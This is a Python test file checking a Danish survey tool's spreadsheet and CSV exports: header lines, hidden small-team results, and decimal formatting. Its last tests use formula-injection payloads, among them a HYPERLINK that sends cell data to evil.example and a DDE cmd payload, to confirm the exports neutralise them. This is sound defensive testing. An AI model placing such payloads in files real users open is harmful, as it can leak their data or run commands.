"""The snapshot's spreadsheet and CSV export: one sheet/file per table, same header lines."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook

from medspil.formatting import date_text
from medspil.scope import Scope
from surveys.snapshots.freeze import open_snapshot
from surveys.snapshots.spreadsheet import render_csv_zip, render_xlsx
from surveys.snapshots.view import SnapshotView, snapshot_view
from tests.surveys.snapshots.snapshot_support import DIGIT, SMALL_TEAM, demo_database, make_snapshot

HEADER_LABELS = ["Projekt", "Område", "Dato", "Nummer", "SHA-256"]


@pytest.fixture(scope="module")
def view(demo_file: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[SnapshotView]:
    for db in demo_database(demo_file, tmp_path_factory.mktemp("xlsx")):
        snapshot = open_snapshot(db, Scope.admin(), make_snapshot(db, comments=True))
        yield snapshot_view(snapshot, "da")


def _header_values(view: SnapshotView) -> list[str]:
    s = view.snapshot
    name = s.content["project"]["name"]
    return [name, s.content["area"]["name"], date_text(s.created_on), str(s.id), s.sha256]


def test_one_sheet_per_table_each_with_the_header(view: SnapshotView) -> None:
    book = load_workbook(io.BytesIO(render_xlsx(view)))
    assert book.sheetnames[0] == "Om"
    assert book.sheetnames[1:] == [table.title[:31] for table in view.tables]
    about = {row[0]: row[1] for row in book["Om"].iter_rows(values_only=True) if row[0]}
    assert about["SHA-256"] == view.snapshot.sha256
    assert about["Mindste gruppe (k)"] == "5"
    for table, name in zip(view.tables, book.sheetnames[1:], strict=True):
        rows = list(book[name].iter_rows(values_only=True))
        assert [r[0] for r in rows[:5]] == HEADER_LABELS
        assert [r[1] for r in rows[:5]] == _header_values(view)
        assert rows[6][0] == table.title
        assert list(rows[7][: len(table.frame.columns)]) == list(table.frame.columns)
        assert len([r for r in rows[8:] if any(v is not None for v in r)]) >= len(table.frame)


def test_numbers_are_numbers_and_hidden_cells_say_so(view: SnapshotView) -> None:
    book = load_workbook(io.BytesIO(render_xlsx(view)))
    scores = list(book["Niveau pr. måling"].iter_rows(min_row=8, values_only=True))
    head, rows = scores[0], scores[1:]
    n, mean = head.index("n"), head.index("Gennemsnit")
    shown = [r for r in rows if r[n] is not None]
    assert shown and all(isinstance(r[n], int) and isinstance(r[mean], float) for r in shown)
    units = list(book[view.table("enheder").title[:31]].iter_rows(min_row=9, values_only=True))
    hidden = [r for r in units if r[0] in SMALL_TEAM]
    assert hidden == [(SMALL_TEAM[1], *(["færre end k svar"] * (len(units[0]) - 1)))]


def test_the_small_team_never_stands_next_to_a_number_in_the_workbook(view: SnapshotView) -> None:
    book = load_workbook(io.BytesIO(render_xlsx(view)))
    rows = [row for sheet in book for row in sheet.iter_rows(values_only=True)]
    named = [r for r in rows if any(isinstance(v, str) and v in SMALL_TEAM for v in r)]
    assert named
    for row in named:
        assert not [v for v in row if isinstance(v, int | float)]
        assert not DIGIT.search(" ".join(str(v) for v in row if v is not None))


def test_csv_zip_has_one_file_per_table_with_the_header(view: SnapshotView) -> None:
    archive = zipfile.ZipFile(io.BytesIO(render_csv_zip(view)))
    assert archive.namelist() == [f"{table.key}.csv" for table in view.tables]
    for table in view.tables:
        raw = archive.read(f"{table.key}.csv").decode("utf-8")
        assert raw.startswith("\ufeff")
        rows = list(csv.reader(io.StringIO(raw[1:]), delimiter=";"))
        assert [r[0] for r in rows[:5]] == HEADER_LABELS
        assert [r[1] for r in rows[:5]] == _header_values(view)
        assert rows[5] == [] and rows[6] == list(table.frame.columns)
        assert len(rows) == 7 + len(table.frame)
        for row in rows[7:]:
            if row[0] in SMALL_TEAM:
                assert not DIGIT.search(";".join(row))
    text = archive.read("niveau_pr_maaling.csv").decode()[1:]
    scores = list(csv.reader(io.StringIO(text), delimiter=";"))
    mean = scores[6].index("Gennemsnit")
    assert any("," in row[mean] for row in scores[7:])  # decimal comma


# Issue 12, items 1 and 2: text from respondents and administrators is never a formula and
# never breaks the file, also when it was stored before cleaning at the door began.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "ny\x0blinje og ESC\x1b[31m",
]


def _hostile_view(view: SnapshotView) -> SnapshotView:
    import copy
    import dataclasses

    import pandas as pd

    from surveys.snapshots.tables import SnapshotTable

    content = copy.deepcopy(view.snapshot.content)
    content["project"]["name"] = "=1+2"
    snapshot = dataclasses.replace(view.snapshot, content=content)
    frame = pd.DataFrame({"Kommentar": HOSTILE, "Forskel": ["-3,5"] * len(HOSTILE)})
    table = SnapshotTable("kommentarer_x", "@Kommentarer", frame, note="=note")
    return dataclasses.replace(
        view, snapshot=snapshot, header=((*view.header[0][:1], "=1+2"),), tables=(table,)
    )


def test_xlsx_stores_formula_like_text_as_text_and_survives_control_characters(
    view: SnapshotView,
) -> None:
    hostile = _hostile_view(view)
    book = load_workbook(io.BytesIO(render_xlsx(hostile)))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert HOSTILE[0] in texts and "=1+2" in texts
    assert "nylinje og ESC[31m" in texts
    formula_like = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r"]
    assert all(c.data_type == "s" and c.quotePrefix for c in formula_like if c.value != "-3,5")


def test_csv_neutralises_formulas_as_owasp_says(view: SnapshotView) -> None:
    hostile = _hostile_view(view)
    archive = zipfile.ZipFile(io.BytesIO(render_csv_zip(hostile)))
    text = archive.read("kommentarer_x.csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    fields = [field for row in rows for field in row]
    assert fields, text
    assert not [f for f in fields if f[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [f for f in fields if f.startswith("-") and f != "-3,5"]
    assert "'" + HOSTILE[0] in fields and "'=1+2" in fields
    assert "nylinje og ESC[31m" in fields
    assert "\x0b" not in text and "\x1b" not in text
